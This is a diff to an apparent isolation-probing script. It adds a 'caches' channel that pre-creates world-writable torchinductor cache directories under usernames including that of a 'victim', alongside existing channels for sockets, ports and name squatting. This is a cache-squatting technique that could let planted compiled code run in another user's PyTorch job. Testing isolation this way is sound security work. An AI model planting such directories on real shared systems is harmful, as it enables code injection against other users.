@@ -254,6 +254,18 @@ def pose():
     say("posing", tried, [])
 
 
+def caches():
+    """Code where torch looks for code that it has compiled, under each name that the victim may have."""
+    tried = 0
+    for name in ("root", "nobody", str(victim), os.environ.get("USER", "user")):
+        tried += 1
+        try:
+            os.makedirs(f"{temporary}/torchinductor_{name}", mode=0o777)
+        except OSError:
+            continue
+    say("caches", tried, [])
+
+
 def squat():
     """After the job: take the names that it had."""
     tried, listening = 0, []
@@ -276,7 +288,7 @@ def squat():
     return listening
 
 
-for channel in (sockets, files, proc, processes, ports, pose):
+for channel in (sockets, files, proc, processes, ports, pose, caches):
     channel()
 sys.stdin.readline()
 came = []
